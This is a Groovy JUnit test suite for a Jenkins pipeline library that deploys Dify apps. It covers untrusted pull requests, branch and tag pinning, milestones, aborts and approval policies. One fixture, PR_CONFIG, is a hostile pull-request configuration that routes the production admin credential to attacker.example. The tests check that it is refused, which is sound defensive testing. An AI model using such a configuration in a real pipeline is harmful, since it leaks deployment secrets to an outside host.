import static harness.PipelineHarness.*
import static org.junit.Assert.*

import harness.PipelineError
import harness.PipelineHarness
import harness.Vars
import org.jenkinsci.plugins.workflow.steps.FlowInterruptedException
import org.junit.Test

/**
 * What a real controller does that the vars once missed (issue 14, one test per defect; each fails on the vars of
 * main@59b59e9): untrusted pull requests, moving branches and tags, milestones across builds, aborts, job
 * properties, agent labels, locks, workspace growth and the every-nth rule.
 */
class ControllerFactsTest extends PipelineScenarios {
    ControllerFactsTest(String engine) {
        super(engine)
    }

    public static final String TRUSTED_CONFIG = 'environments: {production: {url: https://dify.example.com}}\n'
    /** A PR's own dify-ci.yml: the production admin key, sent to the attacker. */
    public static final String PR_CONFIG = 'notify: {slack: {tokenEnv: X, credentialsId: dify-admin, apiUrl: http://attacker.example}}\n'

    private void pullRequest(String config) {
        h.env.CHANGE_ID = '42'
        h.env.BRANCH_NAME = 'PR-42'
        h.trusted = ['dify-ci.yml': TRUSTED_CONFIG]
        h.files['/ws/dify-ci.yml'] = config
        h.runner = { Map run ->
            [exitCode: 0, result: okResult(run.command, run.command == 'plan' ? [data: [markdown: "### offline plan for ${run.params.env}".toString()]] : [:])]
        }
    }

    private List boundIds() {
        return h.named('withCredentials').collectMany { it.args[0]*.credentialsId }
    }

    // #1 ------------------------------------------------------------------------------------------------------

    @Test
    void aPullRequestReadsItsConfigurationThroughReadTrustedBindsNothingPlansOfflineAndNotifiesNobody() {
        pullRequest(TRUSTED_CONFIG)
        h.params.DIFY_ROLLBACK_ENV = 'production' // manual entry points are ignored on PRs
        assertNull(runPipeline())
        assertEquals(['Validate', 'Plan'], h.stages())
        assertEquals(['validate', 'plan staging', 'plan production'], commandLine())
        assertEquals('offline plans: no Dify, no credential', [true, true], h.commands().findAll { it.command == 'plan' }*.params*.offline)
        assertEquals([['dify-ci.yml']], h.named('readTrusted')*.args)
        assertTrue('every runner call reads the configuration from the readTrusted copies', h.runs.every { it.env.DIFY_CI_TRUSTED_DIR == '/ws@tmp/dify-ci/trusted/7' })
        assertEquals(TRUSTED_CONFIG, h.files['/ws@tmp/dify-ci/trusted/7/dify-ci.yml'])
        assertEquals('nothing bound', [], boundIds())
        assertTrue(h.console.contains('dify-ci: pull request build: no notification (an untrusted build binds no credential)'))
        assertEquals('### offline plan for staging', h.files['/ws/.dify-ci/reports/plan-staging.md'])
        assertTrue(h.named('archiveArtifacts')*.args*.getAt(0)*.artifacts.contains('.dify-ci/reports/plan-production.md'))
        assertEquals([], h.named('input'))
        assertEquals([], h.named('lock'))
    }

    @Test
    void aPullRequestThatChangesTheConfigurationFailsBeforeAnyCredentialIsBoundOrAnyoneNotified() {
        pullRequest(PR_CONFIG) // an outsider's PR: readTrusted refuses the changed file
        Throwable t = runPipeline()
        assertTrue(t instanceof PipelineError)
        assertEquals('\u2018dify-ci.yml\u2019 has been modified in an untrusted revision', t.message)
        assertEquals('nothing ran on the PR\'s configuration', [], commandLine())
        assertEquals('no credential bound, so none can be sent anywhere', [], boundIds())
        assertFalse(h.runs.any { it.command == 'notify' })
        assertEquals('FAILURE', h.currentBuild.result)
    }

    @Test
    void readTrustedFetchesWhateverFileTheRunnerNamesTenantFilesToo() {
        pullRequest(TRUSTED_CONFIG)
        h.files['/ws/dify-ci.yaml'] = 'apps: {}'
        h.files['/ws/fleet/tenants.csv'] = 'name\nacme\n'
        h.trusted = ['dify-ci.yaml': 'apps: {}', 'fleet/tenants.csv': 'name\nacme\n']
        h.contextRunner = { Map run ->
            String dir = run.env.DIFY_CI_TRUSTED_DIR
            List missing = ['dify-ci.yaml', 'fleet/tenants.csv'].findAll { !h.files.containsKey("${dir}/${it}".toString()) }
            missing ? [exitCode: 0, result: okResult('context', [data: [untrusted: true, needsTrusted: [missing[0]]]])]
                : resolveContext(defaultContext(run.params.step, run.params.env), run.params, true)
        }
        assertNull(runPipeline())
        assertEquals([['dify-ci.yaml'], ['fleet/tenants.csv']], h.named('readTrusted')*.args)
        assertEquals('name\nacme\n', h.files['/ws@tmp/dify-ci/trusted/7/fleet/tenants.csv'])
    }

    // #3 ------------------------------------------------------------------------------------------------------

    /** A second build of the same job (a newer push), sharing this one's milestones. */
    private PipelineHarness newerBuild() {
        PipelineHarness newer = Vars.harness()
        newer.env.BRANCH_NAME = 'main'
        newer.env.BUILD_NUMBER = '8'
        newer.currentBuild.number = 8
        newer.milestones = h.milestones
        return newer
    }

    @Test
    void aNewerPushDoesNotCancelARunningManualRollback() {
        h.params.DIFY_ROLLBACK_ENV = 'production'
        PipelineHarness newer = newerBuild()
        h.runner = { Map run ->
            if (run.command == 'rollback') {
                newer.call('difyPipeline') // passes staging's milestone, production's, and completes
            }
            [exitCode: 0, result: okResult(run.command)]
        }
        assertNull(runPipeline())
        assertEquals(['rollback production', 'notify success'], commandLine())
        assertEquals([[ordinal: 2147483647, label: 'manual rollback of production']], h.named('milestone')*.args*.getAt(0))
        assertTrue('passed before the approval wait', h.names().indexOf('milestone') < h.names().indexOf('input'))
        assertTrue('the newer build ran to the end', newer.runs.any { it.command == 'notify' })
    }

    @Test
    void anOlderBuildWaitingForApprovalIsCancelledByANewerOneThatGotThere() {
        PipelineHarness newer = newerBuild()
        h.inputAnswer = { Map m ->
            newer.call('difyPipeline') // approved and deployed while this build waited
            'alice'
        }
        Throwable t = runPipeline()
        assertTrue(t instanceof FlowInterruptedException)
        assertFalse('the older build never deploys production over the newer one', commandLine().contains('deploy production'))
        assertEquals('notify aborted', commandLine()[-1])
        assertTrue(newer.commands().any { it.command == 'deploy' && it.params.env == 'production' })
    }

    // #4 ------------------------------------------------------------------------------------------------------

    @Test
    void validateAndPlanRunOnTheAgentLabelOfTheConfiguration() {
        pipelineSettings.agentLabel = 'dify'
        runPipeline()
        List nodes = h.named('node')*.args
        assertEquals('the first node only checks out and asks the runner (no credential)', [''], nodes[0])
        assertTrue(nodes.drop(1).every { it == ['dify'] })
        assertEquals(['context'], h.runs.findAll { it.stack.contains('node:') }*.command)
        assertTrue('validate and plan on the configured agents', h.commands().every { it.stack.contains('node:dify') })
    }

    // #5, #11 -------------------------------------------------------------------------------------------------

    @Test
    void aPlainPipelineJobDeploysTheCommitItValidatedWhenTheBranchMovesMeanwhile() {
        h.env.BRANCH_NAME = null // "Pipeline script from SCM": checkout scm resolves the branch head every time
        h.branchHeads = ['c1', 'c2', 'c3'] // pushes land while this build waits for approval
        runPipeline()
        assertEquals(['c1'], h.runs*.commit.unique())
        List checkouts = h.named('checkout')*.args*.getAt(0)
        assertTrue(checkouts[0].is(h.scm) || checkouts[0] == h.scm)
        for (Map c : checkouts.drop(1)) {
            assertEquals([[name: 'c1']], c.scm.branches)
            assertEquals('the job\'s Git extensions stay', h.scm.extensions, c.scm.extensions)
            assertEquals(h.scm.userRemoteConfigs, c.scm.userRemoteConfigs)
            assertEquals([false, false], [c.poll, c.changelog])
        }
        assertEquals('c1', h.env.GIT_COMMIT)
        assertEquals('main', h.env.GIT_BRANCH)
    }

    @Test
    void aTagDeployChecksOutTheTagOnceThenItsCommitWithTheJobsExtensions() {
        h.params.DIFY_DEPLOY_TAG = 'v1.2.0'
        pipelineSettings.approvalPolicy = 'tags'
        runPipeline()
        List checkouts = h.named('checkout')*.args*.getAt(0)
        assertTrue(checkouts.size() > 1)
        assertEquals([[name: 'refs/tags/v1.2.0']], checkouts[0].scm.branches)
        assertTrue('a moved tag cannot change what later nodes deploy', checkouts.drop(1).every { it.scm.branches == [[name: h.tagCommit]] })
        for (Map c : checkouts) {
            assertEquals('+refs/tags/v1.2.0:refs/tags/v1.2.0', c.scm.userRemoteConfigs[0].refspec)
            assertEquals(['https://git.example.com/acme/bots.git', 'git'], [c.scm.userRemoteConfigs[0].url, c.scm.userRemoteConfigs[0].credentialsId])
            assertEquals(h.scm.extensions, c.scm.extensions)
            assertEquals([false, false], [c.poll, c.changelog])
        }
        assertEquals([h.tagCommit], h.runs*.commit.unique())
        assertEquals('a tag deploy counts as a tag build', 1, h.named('input').size())
    }

    // #6 ------------------------------------------------------------------------------------------------------

    @Test
    void theJobsOwnPropertiesAreSetTogetherWithThePipelinesNotWipedOut() {
        Map discarder = [$symbol: 'buildDiscarder', strategy: [$symbol: 'logRotator', numToKeepStr: '30']]
        runPipeline([extraProperties: [discarder, [$symbol: 'disableConcurrentBuilds']], pollSCM: 'H/5 * * * *'])
        List props = h.named('properties')[0].args[0]
        assertEquals(['parameters', 'pipelineTriggers', 'buildDiscarder', 'disableConcurrentBuilds'], props*.$symbol)
        assertEquals(discarder, props[2])
        assertFalse('a Groovy-only option never reaches the runner', h.runs[0].params.overrides.containsKey('extraProperties'))
    }

    // #8 ------------------------------------------------------------------------------------------------------

    /** A runner where `fails` (command, env) fails and the Abort button is pressed during the rollback of `aborted`. */
    private Closure abortDuringRollback(List fails, String aborted) {
        return { Map run ->
            if (run.command == 'rollback' && run.params.env == aborted) {
                throw new FlowInterruptedException('Aborted by carol')
            }
            [run.command, run.params.env] == fails ? [exitCode: 1, result: okResult(run.command, [status: 'failed'])] : [exitCode: 0, result: okResult(run.command)]
        }
    }

    @Test
    void anAbortDuringTheRollbackOfAFailedEnvironmentIsNotSwallowed() {
        h.runner = abortDuringRollback(['smoke', 'production'], 'production')
        Throwable t = runPipeline()
        assertTrue(t.toString(), t instanceof FlowInterruptedException)
        assertEquals('aborted: nothing more is rolled back', ['rollback production', 'notify aborted'], commandLine()[-2..-1])
    }

    @Test
    void anAbortDuringTheFailurePathsRollbackStopsItAndNotifiesNobody() {
        h.runner = abortDuringRollback(['deploy', 'production'], 'staging')
        Throwable t = runPipeline()
        assertTrue(t.toString(), t instanceof FlowInterruptedException)
        assertEquals(['rollback production', 'rollback staging'], commandLine()[-2..-1])
    }

    // #9 ------------------------------------------------------------------------------------------------------

    @Test
    void earlierBuildsReportsAreClearedAndTheirBackupsNeitherArchivedNorStashedAgain() {
        h.files['/ws/.dify-ci/reports/smoke-staging/old.html'] = 'build 6'
        h.files['/ws/.dify-ci/backups/staging/bot/20250101T000000000Z-v1.yml'] = 'build 6'
        runPipeline()
        assertFalse(h.files.containsKey('/ws/.dify-ci/reports/smoke-staging/old.html'))
        assertTrue('backups stay: a chat app\'s rollback may need one', h.files.containsKey('/ws/.dify-ci/backups/staging/bot/20250101T000000000Z-v1.yml'))
        assertFalse(h.stashes.values().any { it.keySet().any { it.contains('20250101') || it.contains('old.html') } })
        assertEquals([], h.named('archiveArtifacts').findAll { it.args[0].artifacts.contains('*') || it.args[0].artifacts.contains('backups') })
    }

    // #12 -----------------------------------------------------------------------------------------------------

    @Test
    void everyNthOffersProductionToTheNthGoodMainBuildNotToBuildNumbers() {
        pipelineSettings.approvalPolicy = 'every-nth'
        pipelineSettings.everyNth = 3
        h.env.BUILD_NUMBER = '9' // a multiple of 3: the build number must not matter
        goodBuilds.production = 1
        assertNull(runPipeline())
        assertEquals([], h.named('input'))
        assertTrue(h.console.contains("dify-ci: approval policy 'every-nth' does not offer this build for production (good main builds since its last deploy: 2 of 3); stopping before it".toString()))
        h.calls.clear(); h.runs.clear()
        goodBuilds.production = 2
        assertNull(runPipeline())
        assertEquals(1, h.named('input').size())
        h.calls.clear(); h.runs.clear()
        h.env.BRANCH_NAME = 'feature/x'
        goodBuilds.production = 9
        assertNull(runPipeline())
        assertEquals('another branch is never offered production', [], h.named('input'))
    }
}
